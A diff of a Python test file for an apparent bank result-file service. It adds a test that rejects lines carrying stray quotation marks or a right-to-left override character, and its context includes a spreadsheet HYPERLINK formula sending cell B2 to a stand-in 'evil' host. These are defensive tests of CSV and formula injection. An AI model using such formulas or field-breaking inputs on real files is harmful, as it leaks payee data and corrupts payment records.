@@ -110,6 +110,22 @@ class CountedResults:
         return getattr(self._store, name)
 
 
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [('"계좌 해지', ""), ('"계좌 해지', '"'), ("계좌\u202e해지", "")],
+)
+def test_a_stray_quotation_mark_gives_no_shop_the_lines_of_others(
+    stack: Stack, payees: FakePayees, first: str, second: str
+) -> None:
+    batch_id = approved(stack)
+    said = [(f"{batch_id}-00001", "오류", first), (f"{batch_id}-00002", "정상", second)]
+
+    refused = results(stack, batch_id, *said)
+
+    assert (refused.status, refused.json["code"]) == (400, "result_file_invalid")
+    assert statuses(stack) == ["confirmed", "confirmed"]
+
+
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t="])
 def test_no_cell_of_a_bank_file_is_a_formula(sign: str) -> None:
     holder = f'{sign}HYPERLINK("http://evil/"&B2,"x")'
